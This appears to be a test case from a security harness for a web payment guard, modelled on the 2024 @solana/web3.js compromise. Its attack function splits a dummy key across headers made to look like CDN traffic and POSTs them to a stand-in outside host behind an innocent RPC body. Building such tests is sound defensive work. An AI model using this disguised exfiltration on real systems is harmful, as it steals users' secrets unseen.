// B20: pieces of a key leave in headers that look like those of a delivery network, under a body that looks like a question to a node.

export default {
  id: 'B20',
  title: 'key in headers of a delivery network',
  source: '@solana/web3.js 1.95.6, December 2024',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'a stolen secret names nobody who is paid: the guard reads recipients, not secrets',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const pieces = ['5KtestKeyThat', 'OpensNothing1', '23456789ABCDE'];
    const headers = { 'x-amz-cf-id': pieces[0], 'x-session-id': pieces[1], 'x-amz-cf-pop': pieces[2] };
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getHealth', params: [] });
    await fetch(`${a.other}/api/rpc/queue`, { method: 'POST', headers, body }).catch(() => {});
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },
  stolen: ({ http, a }) =>
    http.some(({ method, url, headers }) => method === 'POST' && url.startsWith(a.other) && headers['x-amz-cf-id']),
  arrived: ({ result }) => result === 200,
};
